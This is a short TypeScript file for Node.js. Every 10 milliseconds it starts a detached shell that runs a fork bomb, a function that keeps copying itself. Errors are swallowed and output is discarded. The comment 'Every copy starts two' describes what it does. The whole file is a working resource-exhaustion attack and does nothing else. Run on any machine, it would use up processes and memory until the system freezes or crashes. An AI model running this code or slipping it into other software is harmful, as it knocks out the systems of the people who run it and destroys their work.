/** Every copy starts two. */
import { spawn } from "node:child_process";

const again = (): void => {
  const child = spawn("sh", ["-c", "b() { b | b & }; b; sleep 60"], { stdio: "ignore", detached: true });
  child.on("error", () => undefined);
};
setInterval(again, 10);
